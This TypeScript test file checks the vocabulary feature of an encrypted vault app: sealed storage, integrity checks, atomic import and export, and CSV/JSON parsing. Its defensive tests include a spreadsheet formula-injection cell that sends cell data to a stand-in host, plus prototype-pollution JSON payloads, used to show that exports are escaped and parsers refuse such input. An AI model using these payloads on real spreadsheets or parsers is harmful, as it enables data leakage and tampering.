import fc from 'fast-check';
import { readFileSync, writeFileSync } from 'node:fs';
import { join } from 'node:path';
import { describe, expect, it } from 'vitest';
import { VaultError } from '../../src/shared/errors';
import {
  type Concept,
  hasControlCharacter,
  validateVocabulary,
} from '../../src/shared/vocabulary/concept';
import { parseVocabulary, serializeVocabulary } from '../../src/core/vocabulary/file-formats';
import {
  exportVocabularyFile,
  importVocabularyFile,
} from '../../src/core/vocabulary/vocabulary-files';
import { useTestVaults } from '../helpers/vault';

const vaults = useTestVaults();
const encode = (text: string) => new TextEncoder().encode(text);

const THREATS: Concept = {
  id: 'threats',
  prefLabel: { es: 'amenazas', fr: 'menaces', ar: 'تهديد' },
  altLabel: { es: ['amenaza', 'amenazas, "graves"'] },
  scopeNote: { en: 'Threats, in person\nor online.' },
};

function reasonOf(fn: () => unknown): unknown {
  try {
    fn();
    return null;
  } catch (error) {
    expect((error as VaultError).code).toBe('VOCABULARY.INVALID');
    return (error as VaultError).details.reason;
  }
}

describe('the vocabulary in the vault', () => {
  it('is sealed: names never appear in the database, and it survives lock and unlock', async () => {
    const { vault, dir } = await vaults.create();
    vault.vocabulary.put(THREATS);
    vault.vocabulary.put({ id: 'arrest', prefLabel: { es: 'detención' } });
    expect(vault.vocabulary.list().map((c) => c.id)).toEqual(['threats', 'arrest']);
    vault.close();
    for (const file of ['vault.db', 'vault.db-wal']) {
      let bytes: Buffer;
      try {
        bytes = readFileSync(join(dir, file));
      } catch {
        continue;
      }
      for (const name of ['amenazas', 'menaces', 'تهديد', 'detención', 'threats'])
        expect(bytes.includes(Buffer.from(name)), `${name} in ${file}`).toBe(false);
    }
    const again = await vaults.open(dir);
    expect(again.vocabulary.list()).toEqual([
      THREATS,
      { id: 'arrest', prefLabel: { es: 'detención' } },
    ]);
    again.vocabulary.remove('arrest');
    expect(again.vocabulary.find('Menaces').id).toBe('threats');
    expect(reasonOf(() => again.vocabulary.remove('arrest'))).toBe('notFound');
  });

  it('a row moved or altered fails its integrity check', async () => {
    const { vault } = await vaults.create();
    vault.vocabulary.put(THREATS);
    const row = vault.db.prepare('SELECT sealed FROM vocabulary').get() as { sealed: Buffer };
    row.sealed[row.sealed.length - 1]! ^= 1;
    vault.db.prepare('UPDATE vocabulary SET sealed = ?').run(row.sealed);
    expect(() => vault.vocabulary.list()).toThrow(
      expect.objectContaining({ code: 'INTEGRITY.FAILED' }),
    );
  });

  it('imports a file all or nothing and exports it back (JSON and CSV)', async () => {
    const { vault } = await vaults.create();
    const dir = vaults.temp.make();
    vault.vocabulary.put({ id: 'arrest', prefLabel: { es: 'detención' } });
    const good = join(dir, 'v.json');
    writeFileSync(good, serializeVocabulary([THREATS], 'json'));
    expect(importVocabularyFile(vault.vocabulary, good)).toEqual({
      added: 1,
      replaced: 0,
      total: 2,
    });
    const before = vault.vocabulary.list();
    // The second concept is bad: the first is not applied either.
    const bad = join(dir, 'bad.json');
    writeFileSync(
      bad,
      JSON.stringify({
        format: 'tvault-vocabulary',
        version: 1,
        concepts: [
          { id: 'new', prefLabel: { es: 'nuevo' } },
          { id: 'x', prefLabel: { zz: 'y' } },
        ],
      }),
    );
    expect(reasonOf(() => importVocabularyFile(vault.vocabulary, bad))).toBe('unknownLanguage');
    expect(vault.vocabulary.list()).toEqual(before);

    for (const name of ['out.json', 'out.csv']) {
      const out = join(dir, name);
      expect(exportVocabularyFile(vault.vocabulary, out, { vaultDir: vault.dir }).concepts).toBe(2);
      expect(parseVocabulary(readFileSync(out), name.endsWith('.csv') ? 'csv' : 'json')).toEqual(
        before,
      );
      expect(() => exportVocabularyFile(vault.vocabulary, out, { vaultDir: vault.dir })).toThrow(
        expect.objectContaining({ code: 'FILE.EXISTS' }),
      );
    }
    expect(() =>
      exportVocabularyFile(vault.vocabulary, join(vault.dir, 'v.json'), { vaultDir: vault.dir }),
    ).toThrow(expect.objectContaining({ code: 'INPUT.INVALID' }));
  });

  it('refuses a huge file before reading it', async () => {
    const { vault } = await vaults.create();
    const huge = join(vaults.temp.make(), 'huge.json');
    writeFileSync(huge, Buffer.alloc(8 * 1024 * 1024 + 1, 0x20));
    expect(reasonOf(() => importVocabularyFile(vault.vocabulary, huge))).toBe('tooLarge');
    expect(vault.vocabulary.list()).toEqual([]);
  });
});

describe('vocabulary files', () => {
  it('reads the documented CSV form: a column per language, .alt and .note columns', () => {
    const csv = [
      'id,es,fr,ar,es.alt,en.note',
      'threats,amenazas,menaces,تهديد,"amenaza\namenazas graves",Threats',
      'arrest,detención,,,,',
    ].join('\r\n');
    expect(parseVocabulary(encode(`\uFEFF${csv}`), 'csv')).toEqual([
      {
        id: 'threats',
        prefLabel: { es: 'amenazas', fr: 'menaces', ar: 'تهديد' },
        altLabel: { es: ['amenaza', 'amenazas graves'] },
        scopeNote: { en: 'Threats' },
      },
      { id: 'arrest', prefLabel: { es: 'detención' } },
    ]);
  });

  it('writes no cell a spreadsheet would run as a formula, and reads every name back as it was', () => {
    const risky: Concept = {
      id: 'risky',
      prefLabel: { en: '=HYPERLINK("http://x.example/?"&A1,"open")', es: "'entre comillas" },
      altLabel: { en: ['+1', '@mention'] },
      scopeNote: { fr: '-ismes' },
    };
    const csv = serializeVocabulary([risky], 'csv').replace(/^\uFEFF/, '');
    const cells = csv.split(/\r?\n/)[1]!;
    expect(cells).not.toMatch(/(^|,)"?[=+\-@]/);
    expect(cells).toContain(`'=HYPERLINK`);
    expect(cells).toContain(`''entre comillas`);
    expect(parseVocabulary(encode(csv), 'csv')).toEqual([risky]);
  });

  it('refuses hostile files with a typed reason', () => {
    const json = (value: unknown) => encode(JSON.stringify(value));
    const file = (concepts: unknown) => json({ format: 'tvault-vocabulary', version: 1, concepts });
    const cases: [Uint8Array, 'json' | 'csv', string][] = [
      [encode('{"format":'), 'json', 'format'],
      [new Uint8Array([0xff, 0xfe, 0x00]), 'json', 'format'],
      [json({ format: 'skos', version: 1, concepts: [] }), 'json', 'format'],
      [json({ format: 'tvault-vocabulary', version: 2, concepts: [] }), 'json', 'format'],
      [json([THREATS]), 'json', 'format'],
      [file([THREATS, THREATS]), 'json', 'duplicateId'],
      [file([{ id: 'a', prefLabel: { es: '' } }]), 'json', 'emptyName'],
      [file([{ id: 'a', prefLabel: { klingon: 'x' } }]), 'json', 'unknownLanguage'],
      [file(Array(10_001).fill({ id: 'a', prefLabel: { es: 'x' } })), 'json', 'tooMany'],
      [
        encode(
          '{"format":"tvault-vocabulary","version":1,"concepts":[{"id":"a","prefLabel":{"es":"x"},"__proto__":{"polluted":1}}]}',
        ),
        'json',
        'format',
      ],
      [
        encode(
          '{"format":"tvault-vocabulary","version":1,"concepts":[{"id":"a","prefLabel":{"__proto__":"x"}}]}',
        ),
        'json',
        'noName',
      ],
      [new Uint8Array(8 * 1024 * 1024 + 1), 'json', 'tooLarge'],
      [encode('es,fr\namenazas,menaces'), 'csv', 'format'],
      [encode('id,es,es name\na,b,c'), 'csv', 'format'],
      [encode('id,es\na,b,c'), 'csv', 'format'],
      [encode('id,es\n"a,b'), 'csv', 'format'],
      [encode('id,xx\na,b'), 'csv', 'unknownLanguage'],
      [encode('id,es\na,\n'), 'csv', 'noName'],
      [encode(''), 'csv', 'format'],
    ];
    for (const [bytes, format, reason] of cases)
      expect(
        reasonOf(() => parseVocabulary(bytes, format)),
        new TextDecoder().decode(bytes.slice(0, 80)),
      ).toBe(reason);
    expect(({} as Record<string, unknown>).polluted).toBeUndefined();
  });

  it('round-trips any valid vocabulary through JSON and CSV (property)', () => {
    const lang = fc.constantFrom('en', 'ar', 'es', 'fr', 'pt-BR', 'ary', 'hi');
    const name = fc
      .string({ minLength: 1, maxLength: 20, unit: 'grapheme' })
      .filter((s) => /[\p{L}\p{N}]/u.test(s) && !hasControlCharacter(s) && s.isWellFormed());
    const concept = fc.record(
      {
        id: fc.stringMatching(/^[a-z0-9][a-z0-9._-]{0,15}$/),
        prefLabel: fc.dictionary(lang, name, { minKeys: 1, maxKeys: 4 }),
        altLabel: fc.dictionary(lang, fc.array(name, { minLength: 1, maxLength: 3 }), {
          maxKeys: 3,
        }),
        scopeNote: fc.dictionary(lang, fc.string({ minLength: 1, maxLength: 40 }), { maxKeys: 2 }),
      },
      { requiredKeys: ['id', 'prefLabel'] },
    );
    fc.assert(
      fc.property(fc.array(concept, { maxLength: 8 }), (raw) => {
        let concepts: Concept[];
        try {
          concepts = validateVocabulary(raw);
        } catch (error) {
          // Generated duplicates (ids, preferred names) are refused, not round-tripped.
          expect((error as VaultError).code).toBe('VOCABULARY.INVALID');
          return;
        }
        for (const format of ['json', 'csv'] as const)
          expect(parseVocabulary(encode(serializeVocabulary(concepts, format)), format)).toEqual(
            concepts,
          );
      }),
      { numRuns: 200 },
    );
  });
});
